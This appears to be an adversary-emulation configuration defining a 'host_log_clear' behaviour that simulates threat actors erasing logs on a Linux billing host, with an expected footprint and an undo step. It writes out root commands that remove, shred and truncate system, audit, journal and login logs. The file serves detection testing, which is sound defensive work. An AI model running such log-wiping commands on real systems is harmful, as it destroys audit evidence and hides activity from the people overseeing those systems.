behaviour "host_log_clear" {
  attack    = ["T1685.006"]
  actors    = ["soft_cell", "emissary_panda"]
  platform  = linux
  hosts     = ["billing"]
  phase     = erasure
  summary   = "remove, shred, empty and vacuum the asset's own logs"
  footprint = "rm, shred, truncate, journalctl and shells started from root's shell; logs gone or of no bytes"
  undo      = "put the logs back with mode and times"
  source    = "Cybereason, DeadRinger, 2021: traces erased; ATT&CK v18.1 G0027 T1070.004, on Windows; T1070.002 by analogy"

  argument "logs" {
    doc     = "which logs: text files, the journal, or the records of logins"
    one_of  = ["files", "journal", "logins", "all"]
    default = "all"
  }

  # Each log is taken in the way that is usual for it: those a daemon has open are
  # emptied, the rest removed.
  process "login" {
    extends = template.login_shell
    user    = host.accounts.admin
    folder  = "/root"

    group {
      when = contains(["files", "all"], arg.logs)
      process "rm" {
        image   = "/usr/bin/rm"
        command = "rm -f /var/log/auth.log.1 ${local.old_database_log}"
        remove { path = "/var/log/auth.log.1" }
        remove {
          path   = local.old_database_log
          proven = false
        }
      }
      process "shred" {
        image   = "/usr/bin/shred"
        command = "shred -u -z -n 1 /var/log/mail.log.1"
        write {
          path    = "/var/log/mail.log.1"
          content = local.marker
        }
        remove { path = "/var/log/mail.log.1" }
      }
      process "truncate" {
        image   = "/usr/bin/truncate"
        command = "truncate -s 0 /var/log/syslog"
        truncate { path = local.system_log }
      }
      process "shell" {
        extends = template.shell_line
        with    = { line = ": > /var/log/audit/audit.log" }
        truncate { path = local.audit_log }
      }
    }

    group {
      when = contains(["journal", "all"], arg.logs)
      process "rotate" {
        image   = "/usr/bin/journalctl"
        command = "journalctl --rotate"
      }
      process "vacuum" {
        image   = "/usr/bin/journalctl"
        command = "journalctl --vacuum-time=1s"
        remove { path = local.journal }
      }
    }

    group {
      when = contains(["logins", "all"], arg.logs)
      process "truncate" {
        image   = "/usr/bin/truncate"
        command = "truncate -s 0 /var/log/wtmp /var/log/btmp"
        truncate { path = "/var/log/wtmp" }
        truncate { path = "/var/log/btmp" }
      }
      process "shell" {
        extends = template.shell_line
        with    = { line = "cat /dev/null > /var/log/lastlog" }
        truncate { path = "/var/log/lastlog" }
        process "cat" {
          image   = "/usr/bin/cat"
          command = "cat /dev/null"
        }
      }
      process "rm" {
        image   = "/usr/bin/rm"
        command = "rm -f /run/utmp"
        remove { path = "/run/utmp" }
      }
    }
  }
}
